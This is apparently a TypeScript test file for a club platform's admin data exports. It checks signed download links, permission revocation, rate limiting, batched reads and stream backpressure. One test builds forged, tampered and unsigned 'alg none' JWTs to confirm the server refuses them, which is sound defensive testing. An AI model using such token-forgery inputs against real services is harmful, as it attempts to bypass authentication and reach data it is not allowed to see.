      expect(err).toMatchObject({ code: 'BAD_USER_INPUT', message: TEXT.invalidFormat, fields: { format: TEXT.invalidFormat } });
    }
    expect(await auditCount(server)).toBe(before);
  });

  it('a forged, tampered, malformed or expired address is refused with the REST envelope', async () => {
    const file = await exportOk(admin.client, 'exportClubApplications', { format: 'CSV' });
    const token = file.downloadUrl.split('/').pop()!;
    const [header, payload, signature] = token.split('.');
    const secret = await exportSecret();
    const claims = decodeJwt(token);

    const forged = await new SignJWT({ ...claims }).setProtectedHeader({ alg: 'HS256' }).sign(new TextEncoder().encode('a'.repeat(64)));
    const widened = Buffer.from(JSON.stringify({ ...claims, params: { ...(claims.params as object), status: 'rejected' } })).toString('base64url');
    const tampered = `${header}.${widened}.${signature}`;
    const unsigned = `${Buffer.from('{"alg":"none"}').toString('base64url')}.${payload}.`;
    for (const bad of [forged, tampered, unsigned, 'not-a-token', `${token}x`, `${token}/extra`]) {
      const got = await download(`/api/admin/exports/${bad}`);
      expect(got.status, bad).toBe(404);
      expect(JSON.parse(got.body.toString('utf8'))).toEqual({ success: false, data: null, error: TEXT.linkInvalid, code: 'NOT_FOUND' });
    }

    const now = Math.floor(Date.now() / 1000);
    const expired = await new SignJWT({ kind: claims.kind, filename: claims.filename, params: claims.params })
      .setProtectedHeader({ alg: 'HS256' })
      .setSubject(admin.id)
      .setIssuer('clubroom')
      .setAudience('clubroom:admin-export')
      .setIssuedAt(now - 600)
      .setExpirationTime(now - 300)
      .sign(secret);
    const gone = await download(`/api/admin/exports/${expired}`);
    expect(gone.status).toBe(410);
    expect(JSON.parse(gone.body.toString('utf8'))).toEqual({ success: false, data: null, error: TEXT.linkExpired, code: 'LINK_EXPIRED' });

    // The same claims within their 5 minutes download.
    expect((await download(file.downloadUrl)).status).toBe(200);
  });

  it('an administrator demoted (or suspended) after asking can no longer download', async () => {
    const temp = await newAdmin(server, 'Temporary Admin');
    const file = await exportOk(temp.client, 'exportAdminActions', { format: 'JSON' });
    expect((await download(file.downloadUrl)).status).toBe(200);
    await dbOf(server).update(users).set({ isPlatformAdmin: false }).where(eq(users.id, temp.user.id));
    const refused = await download(file.downloadUrl);
    expect(refused.status).toBe(403);
    expect(JSON.parse(refused.body.toString('utf8'))).toEqual({ success: false, data: null, error: ADMIN_TEXT.adminRequired, code: 'FORBIDDEN' });

    const other = await newAdmin(server, 'Suspended Admin');
    const second = await exportOk(other.client, 'exportClubApplicationStatistics', { format: 'CSV' });
    await dbOf(server).update(users).set({ status: 'suspended' }).where(eq(users.id, other.user.id));
    expect((await download(second.downloadUrl)).status).toBe(403);
  });

  it("exports count against the administrator's rate limit ('Admin action rate limit exceeded'), refused ones unaudited", async () => {
    for (let i = 0; i < 30; i++) await exportOk(admin.client, 'exportClubApplicationStatistics', { format: 'JSON' });
    const before = await auditCount(server);
    const limited = await admin.client.gql(EXPORT_STATISTICS, { input: { format: 'JSON' } });
    expect(onlyError(limited)).toMatchObject({ message: ADMIN_TEXT.rateLimited });
    expect(await auditCount(server)).toBe(before);
  });
});

describe('many applications', () => {
  it('are read in batches: 2,500 applications (1,200 of them submitted at the same instant) each once, in order, in every format', async () => {
    // Straight into the tables: the same shape registration gives, with set submission times.
    const db = dbOf(server);
    await db.execute(sql`
      with owners as (
        insert into users (email, full_name, password_hash)
        select 'bulk' || n || '@exports.example.com', 'Bulk Owner ' || n, 'not-a-hash' from generate_series(1, 2500) n
        returning id, full_name
      )
      insert into clubs (id, name, contact_email, application_status, city, created_at)
      select id, replace(full_name, 'Bulk Owner', 'Bulk Club'), 'club' || substr(full_name, 12) || '@exports.example.com',
        case when substr(full_name, 12)::int % 3 = 0 then 'approved' else 'pending' end, 'Batchford',
        case when substr(full_name, 12)::int <= 1200 then timestamptz '2026-02-10 10:00:00.123456+00'
             else timestamptz '2026-02-11 00:00:00+00' + (substr(full_name, 12)::int * interval '1 second 7 microseconds') end
      from owners`);
    const range = { from: '2026-02-10', to: '2026-02-28' };
    const expected = await expectedApplications(range);
    expect(expected).toHaveLength(2500);

    const csv = readCsv(await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'CSV', ...range }), 'csv'));
    expect(csv.rows.map((r) => r.id)).toEqual(expected.map((a) => a.club.id));
    expect(csv.rows).toEqual(expectedRows(expected, 'csv'));

    const json = JSON.parse((await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'JSON', ...range }), 'json')).toString('utf8')) as Row[];
    expect(json.map((r) => r.id)).toEqual(expected.map((a) => a.club.id));

    const [sheet] = await readWorkbook(await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'XLSX', status: 'APPROVED', ...range }), 'xlsx'));
    const approved = expected.filter((a) => a.club.applicationStatus === 'approved');
    expect(approved).toHaveLength(833);
    expect(sheet!.rows.map(readXlsx)).toEqual(expectedRows(approved, 'xlsx'));
  });
});

describe('a download read slowly, or not at all', () => {
  const BATCHES = 12;
  const ROWS = 1_000;
  const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
  async function until(check: () => boolean) {
    for (let i = 0; i < 500 && !check(); i++) await pause(10);
    expect(check()).toBe(true);
  }

  /** Takes the file's first chunk, as a download starting does. */
  const firstChunk = (file: Readable) => new Promise<Buffer>((resolve) => file.once('readable', () => resolve(Buffer.from(file.read() as Buffer))));

  /** Rows of text that barely compresses, counting how many batches the writer has asked for. */
  function source() {
    const state = { pulled: 0, finished: false };
    async function* batches(): AsyncGenerator<Cell[][]> {
      try {
        for (let b = 0; b < BATCHES; b++) {
          state.pulled++;
          yield Array.from({ length: ROWS }, (_, i) => [b * ROWS + i, randomBytes(60).toString('hex'), new Date(Date.UTC(2026, 0, 1, 0, 0, b * ROWS + i))]);
        }
      } finally {
        state.finished = true;
      }
    }
    const sheet: Sheet = { name: 'Rows', columns: [{ header: 'n' }, { header: 'text' }, { header: 'at', kind: 'date' }], batches: batches() };
    return { state, sheet };
  }

  const writers: [Format, (sheet: Sheet) => Readable][] = [
    ['xlsx', (sheet) => xlsxFile([sheet])],
    ['csv', (sheet) => csvFile([sheet])],
    ['json', (sheet) => jsonArrayFile(sheet.batches)],
  ];

  for (const [format, write] of writers) {
    it(`${format}: the writer stops reading rows while nobody reads the file, goes on when read, and the file is whole`, async () => {
      const { state, sheet } = source();
      const file = write(sheet);
      const first = await firstChunk(file);
      await until(() => state.pulled > 0);
      // Waiting for a reader: it stops asking for batches, far short of the whole list.
      let seen = -1;
      while (seen !== state.pulled) {
        seen = state.pulled;
        await pause(200);
      }
      expect(state.pulled).toBeLessThan(BATCHES / 2);
      expect(state.finished).toBe(false);

      const body = Buffer.concat([first, await buffer(file)]);
      expect(state.pulled).toBe(BATCHES);
      expect(state.finished).toBe(true);
      let rows: unknown[][];
      if (format === 'xlsx') rows = (await readWorkbook(body))[0]!.rows.map((r) => Object.values(r));
      else if (format === 'csv') rows = readCsv(body).rows.map((r) => Object.values(r));
      else rows = JSON.parse(body.toString('utf8')) as unknown[][];
      expect(rows).toHaveLength(BATCHES * ROWS);
      expect(rows.map((r) => Number(r[0]))).toEqual(Array.from({ length: BATCHES * ROWS }, (_, i) => i));
    });

    it(`${format}: a reader that goes away stops the writer and ends the row source`, async () => {
      const { state, sheet } = source();
      const file = write(sheet);
      await firstChunk(file);
      await until(() => state.pulled > 0);
      file.destroy();
      await until(() => state.finished);
      expect(state.pulled).toBeLessThan(BATCHES);
    });
  }
});
